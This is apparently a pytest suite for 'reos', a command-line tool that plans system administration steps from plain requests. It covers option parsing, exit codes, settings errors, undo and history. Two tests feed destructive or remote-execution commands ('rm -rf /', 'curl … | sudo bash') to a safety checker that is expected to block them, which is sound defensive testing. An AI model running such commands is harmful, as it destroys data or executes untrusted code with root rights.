"""The command line: typer's option handling, the fast path, and the installed `reos`."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from reos import cli, paths
from tests.conftest import FIXTURES, reos, reos_json

CONTEXT = str(FIXTURES / "homelab.json")


@pytest.fixture
def app():
    return cli.build_app()


def invoke(app, *args: str, input: str | None = None):
    return CliRunner().invoke(app, list(args), input=input)


def test_plan_needs_a_request(app) -> None:
    result = invoke(app, "plan")
    assert result.exit_code == 2 and "Missing argument" in result.output


def test_unknown_option_is_a_usage_error(app) -> None:
    result = invoke(app, "plan", "--frobnicate", "restart portainer")
    assert result.exit_code == 2 and "No such option" in result.output


def test_blank_request_is_a_usage_error(app) -> None:
    result = invoke(app, "plan", "   ")
    assert result.exit_code == 2


def test_dry_run_never_runs(app) -> None:
    result = invoke(app, "plan", "--dry-run", "--context", CONTEXT, "stop portainer")
    assert result.exit_code == 0
    assert "1. Stop portainer" in result.output and "dry run" in result.output
    from reos.store.db import Database
    from reos.store.journal import Journal
    from reos.store.traces import Traces

    db = Database(paths.database_file())
    assert Journal(db).transactions() == []  # nothing was journaled, nothing ran
    assert Traces(db).latest().request == "stop portainer"  # type: ignore[union-attr]


def test_declining_at_the_prompt_changes_nothing(app, monkeypatch) -> None:
    monkeypatch.setattr("reos.commands.plan.interactive", lambda: True)
    result = invoke(app, "plan", "--allow-other-host", "--context", CONTEXT, "stop portainer",
                    input="n\n")
    assert result.exit_code == 5, result.output
    assert "Proceed?" in result.output and "Nothing was changed" in result.output
    assert _nothing_journaled()


def test_no_terminal_and_no_yes_means_not_run(app) -> None:
    result = invoke(app, "plan", "--allow-other-host", "--context", CONTEXT, "stop portainer")
    assert result.exit_code == 5
    assert _nothing_journaled()


def _nothing_journaled() -> bool:
    """No transaction was written (the request's reasoning is kept all the same)."""
    from reos.store.db import Database
    from reos.store.journal import Journal

    return Journal(Database(paths.database_file())).transactions() == []


def test_check_exit_codes(app) -> None:
    assert invoke(app, "check", "ls -la").exit_code == 0
    blocked = invoke(app, "check", "--json", "rm -rf /")
    assert blocked.exit_code == 3
    assert json.loads(blocked.output)["blocked"] is True


def test_version(app) -> None:
    result = invoke(app, "--version")
    assert result.exit_code == 0 and result.output.startswith("reos ")


@pytest.mark.parametrize("args", [
    ["plan", "--json", "--context", CONTEXT, "restart portainer"],
    ["plan", "--context=" + CONTEXT, "--json", "stop the nextcloud containers"],
    ["plan", "--json", "--context", CONTEXT, "restart redis"],
    ["plan", "--json", "--context", CONTEXT, "stop gitlab"],
    ["plan", "--json", "--context", CONTEXT, "--", "restart portainer"],
    ["undo", "--json"],
])
def test_fast_path_and_typer_agree(app, args, capsys) -> None:
    fast = cli.fast_route(args)
    assert fast is not None, "these plain forms must take the fast path"
    fast_code = fast()
    fast_out = capsys.readouterr().out
    result = invoke(app, *args)
    assert result.exit_code == fast_code
    assert json.loads(result.output) == json.loads(fast_out)


@pytest.mark.parametrize("args", [
    ["plan", "--help"], ["plan"], ["plan", "--json"], ["plan", "a", "b"], ["undo", "--force"],
    ["history"], ["plan", "--context"], [],
])
def test_anything_unusual_goes_to_typer(args) -> None:
    assert cli.fast_route(args) is None


# -- the installed command, as a subprocess ----------------------------------------------

def test_installed_plan_json() -> None:
    data = reos_json("plan", "--json", "--context", CONTEXT, "stop the nextcloud containers")
    assert data["schema"] == "reos.plan/1" and data["kind"] == "action"
    assert [s["command"] for s in data["steps"]] == ["docker stop nextcloud-app",
                                                     "docker stop nextcloud-redis"]


def test_installed_plan_clarify_and_missing_exit_codes() -> None:
    clarify = reos("plan", "--json", "--context", CONTEXT, "restart redis")
    assert clarify.returncode == 4 and json.loads(clarify.stdout)["kind"] == "clarify"
    missing = reos("plan", "--context", CONTEXT, "stop the gitlab containers")
    assert missing.returncode == 4 and "No containers match" in missing.stdout


def test_installed_context_json() -> None:
    data = reos_json("context", "--json")
    assert data["schema"] == "reos.snapshot/2"
    assert {"hostname", "distro_id", "kernel", "is_root", "package_manager"} <= set(data["host"])
    for section in ("containers", "services", "packages"):
        assert section in data
        if data[section] is None:
            assert section in data["unavailable"]  # unknown says why, never []-for-unknown


def test_installed_check() -> None:
    done = reos("check", "--json", "curl http://example.com/x.sh | sudo bash")
    assert done.returncode == 3
    assert json.loads(done.stdout)["reasons"]
    assert reos("check", "docker ps").returncode == 0
    assert reos("check").returncode == 2


def test_installed_undo_and_history_when_empty() -> None:
    undo = reos("undo", "--json")
    assert undo.returncode == 4
    assert json.loads(undo.stdout)["undone"] is None
    assert reos_json("history", "--json") == {"schema": "reos.history/1", "transactions": []}


def test_bad_settings_file_exits_2_with_file_line_and_key(reos_home: Path) -> None:
    settings = reos_home / "config" / "settings.toml"
    settings.parent.mkdir(parents=True)
    text = "[limits]\nmax_operations = many\n"
    settings.write_text(text)
    done = reos("plan", "--json", "--context", CONTEXT, "restart portainer")
    assert done.returncode == 2
    assert done.stdout == ""  # nothing but the error, and not on stdout
    assert f"{settings}:2" in done.stderr and "max_operations" in done.stderr
    assert "Traceback" not in done.stderr
    assert settings.read_text() == text


def test_unknown_settings_key_warns_on_stderr_only(reos_home: Path) -> None:
    settings = reos_home / "config" / "settings.toml"
    settings.parent.mkdir(parents=True)
    settings.write_text("[conversation]\nshow_command = false\n")
    done = reos("plan", "--json", "--context", CONTEXT, "restart portainer")
    assert done.returncode == 0
    json.loads(done.stdout)
    assert "Did you mean 'show_commands'" in done.stderr


def test_missing_context_file_is_a_clear_error(tmp_path: Path) -> None:
    done = reos("plan", "--json", "--context", str(tmp_path / "nope.json"), "restart x")
    assert done.returncode == 2 and "does not exist" in done.stderr
    assert "Traceback" not in done.stderr


def test_unwritable_journal_is_a_clear_error(tmp_path: Path) -> None:
    (tmp_path / "data").write_text("")  # where the database directory should be
    done = reos("undo", env={"REOS_HOME": str(tmp_path)})
    assert done.returncode == 1 and "Cannot open the reos database" in done.stderr
    assert "Traceback" not in done.stderr


def test_a_reader_that_leaves_early_gets_no_traceback() -> None:
    """`reos plan … | head -1`: the pipe closes before reos writes; reos ends quietly."""
    import subprocess

    from tests.conftest import FIXTURES, REOS_BIN

    child = subprocess.Popen([str(REOS_BIN), "plan", "--dry-run", "--context",
                              str(FIXTURES / "homelab.json"), "remove bob from developers"],
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert child.stdout is not None and child.stderr is not None
    child.stdout.close()  # the reader is gone before anything was written
    errors = child.stderr.read().decode()
    assert child.wait(timeout=60) == 141
    assert "Traceback" not in errors and "BrokenPipe" not in errors
